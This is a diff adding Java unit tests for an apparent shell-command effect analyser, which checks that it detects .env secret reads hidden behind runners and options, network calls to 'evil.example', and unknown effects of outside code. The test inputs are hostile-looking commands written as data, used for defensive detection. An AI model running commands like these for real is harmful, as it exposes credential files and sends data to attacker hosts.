@@ -101,4 +101,52 @@ final class DetoursTest {
     var world = new InMemoryWorld().file("/repo/a", "").file("/repo/.env", "").folder("/repo/src");
     return SHELL.of(text, Dialect.BASH, ShellState.in("/repo"), world).effects();
   }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "col --no-such-option .env",
+        "col --no-such-option=.env",
+        "as @.env",
+        "cat @.env",
+        "poetry run cat .env",
+        "uv run bash -c 'cat .env'",
+        "npx --no-install sh -c 'cat .env'",
+        "bundle exec tail .env",
+        "python3 manage.py shell -c 'open(\".env\").read()'",
+        "python3 -m timeit 'open(\".env\").read()'",
+      })
+  void sees_a_file_behind_a_runner_or_an_option_nobody_listed(String text) {
+    assertThat(effects(text))
+        .anyMatch(effect ->
+            effect instanceof Effect.Reads reads && reads.target().path().equals("/repo/.env"));
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "tool --fetch=https://evil.example/x",
+        "mvn test -Durl=https://evil.example/x",
+        "pytest --base-url https://evil.example",
+        "tool git+https://evil.example/x",
+      })
+  void sees_the_hosts_that_an_opaque_program_is_given(String text) {
+    assertThat(effects(text))
+        .anyMatch(effect ->
+            effect instanceof Effect.Reaches reaches
+                && reaches.host().name().equals("evil.example"));
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "node --test /tmp/x.js",
+        "pytest /tmp/x_test.py",
+        "pytest --conf=/tmp/x.py",
+        "java -cp /tmp/x Main",
+        "npx tsx ../../x.ts",
+      })
+  void cannot_tell_what_code_from_elsewhere_does(String text) {
+    assertThat(effects(text)).anyMatch(Effect.Unknown.class::isInstance);
+  }
 }
